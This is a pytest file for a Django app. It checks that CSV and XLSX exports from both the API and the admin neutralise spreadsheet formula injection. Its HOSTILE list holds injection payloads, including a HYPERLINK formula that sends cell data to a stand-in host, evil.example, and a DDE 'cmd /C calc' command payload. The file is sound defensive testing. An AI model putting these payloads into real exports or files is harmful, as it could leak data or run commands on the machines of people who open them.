"""One formula guard on every CSV and XLSX path: API and admin exports, CSV and XLSX, SQL and serializer.

Hostile cells (formulas, and formulas behind a control character) are written into the text fields
of a project; every file that carries them is opened the way a spreadsheet would (openpyxl loads the
workbook; the CSV is parsed) and no cell may be a formula, start with a formula trigger or hold a
control character. Numbers, dates and booleans next to them must still be typed cells.
"""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook
from rest_framework.test import APIClient

from ledger.api.base import LedgerViewSet
from ledger.spreadsheet_cells import CONTROL_CHARACTERS_RE, FORMULA_TRIGGERS, guard
from projects.resources import ProjectResource
from tests.factories import ProjectFactory, SuperUserFactory

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\x01=HYPERLINK(\"http://evil.example\")",
    "\x1b\x07@SUM(A1)",
    "\x08+cmd",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
]


# The admin's export form: the resource and every column ticked.
EVERY_COLUMN = {"resource": "0", **{f"projectresource_{name}": "on" for name in ProjectResource.Meta.fields}}


def _project(hostile: str):
    return ProjectFactory(
        name=f"{hostile}", summary=hostile, address=hostile, responsible_unit=hostile, slug="hostile",
        code="QS-HOSTILE", planned_jobs=120, signed_on=datetime.date(2026, 2, 10),
        total_investment=Decimal("12345.60"),
    )


def _body(response) -> bytes:
    assert response.status_code == 200, response.content[:300] if hasattr(response, "content") else response
    if getattr(response, "streaming", False):
        return b"".join(response.streaming_content)
    return response.content


def assert_csv_safe(body: bytes) -> list[list[str]]:
    assert body.startswith(b"\xef\xbb\xbf"), "every CSV starts with a BOM"
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_TRIGGERS), repr(cell)
            assert not CONTROL_CHARACTERS_RE.search(cell), repr(cell)
    return rows


def assert_xlsx_safe(body: bytes):
    sheet = load_workbook(io.BytesIO(body)).worksheets[0]
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
            if isinstance(cell.value, str):
                assert not cell.value.startswith(("=", "+", "-", "@")), (cell.coordinate, cell.value)
                assert not CONTROL_CHARACTERS_RE.search(cell.value), (cell.coordinate, cell.value)
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref
    return sheet


def _column(sheet, header: str) -> list:
    headers = [cell.value for cell in sheet[1]]
    index = headers.index(header)
    return [row[index].value for row in sheet.iter_rows(min_row=2)]


@pytest.fixture(params=[True, False], ids=["sql-cells", "serializer"])
def export_path(request, monkeypatch):
    """On PostgreSQL the API computes cells in SQL (COPY); the serializer path is the fallback."""
    monkeypatch.setattr(LedgerViewSet, "sql_exports", request.param)


@pytest.mark.parametrize("hostile", HOSTILE)
@pytest.mark.parametrize("who", ["anonymous", "staff"])
def test_api_csv_and_xlsx_never_carry_a_formula(hostile, who, export_path):
    _project(hostile)
    client = APIClient()
    if who == "staff":
        client.force_authenticate(SuperUserFactory())
    expected = guard(hostile)

    rows = assert_csv_safe(_body(client.get("/api/v1/projects/?format=csv")))
    header, record = rows[0], rows[1]
    assert record[header.index("summary")] == expected
    if who == "staff":
        assert record[header.index("responsible_unit")] == expected

    sheet = assert_xlsx_safe(_body(client.get("/api/v1/projects/?format=xlsx")))
    assert sheet.title == "招商项目"
    assert _column(sheet, "摘要") == [expected.replace("\r", "\n")]  # XML stores a lone CR as LF
    assert _column(sheet, "计划就业人数") == [120]
    assert _column(sheet, "总投资（万元）") == [12345.6]
    assert _column(sheet, "签约日期") == [datetime.datetime(2026, 2, 10)]
    assert _column(sheet, "总部项目") == [False]
    money = sheet.cell(row=2, column=[c.value for c in sheet[1]].index("总投资（万元）") + 1)
    assert money.number_format == "#,##0.00"


@pytest.mark.parametrize("hostile", HOSTILE)
@pytest.mark.parametrize("fmt", ["0", "1"], ids=["xlsx", "csv"])
def test_admin_export_never_carries_a_formula(hostile, fmt, admin_client):
    _project(hostile)
    response = admin_client.post("/admin/projects/project/export/", {"format": fmt, **EVERY_COLUMN})
    body = _body(response)
    expected = guard(hostile)
    if fmt == "1":
        assert response["Content-Disposition"].startswith('attachment; filename="qingshan-projects-')
        header, record = assert_csv_safe(body)[:2]
        assert record[header.index("项目名称")] == expected
        assert record[header.index("责任单位")] == expected  # staff-only columns are guarded too
        return
    assert response["Content-Disposition"].endswith('.xlsx"')
    sheet = assert_xlsx_safe(body)
    assert sheet.title == "招商项目"
    assert _column(sheet, "项目名称") == [expected.replace("\r", "\n")]
    assert _column(sheet, "总投资（万元）") == [12345.6]
    assert _column(sheet, "签约日期") == [datetime.datetime(2026, 2, 10)]
    assert _column(sheet, "计划就业人数") == [120]


def test_one_control_character_does_not_break_later_admin_exports(admin_client):
    _project("bell\x07here")
    for _attempt in range(2):
        body = _body(admin_client.post("/admin/projects/project/export/", {"format": "0", **EVERY_COLUMN}))
        assert _column(assert_xlsx_safe(body), "摘要") == ["bellhere"]


def test_guard_strips_control_characters_before_the_check():
    assert guard("\x01=1+1") == "'=1+1"
    assert guard("\x00\x1f@x") == "'@x"
    assert guard("青山\x07区") == "青山区"
    assert guard("'=already") == "'=already"
    assert guard("2026-02-10") == "2026-02-10"
    assert guard("") == ""
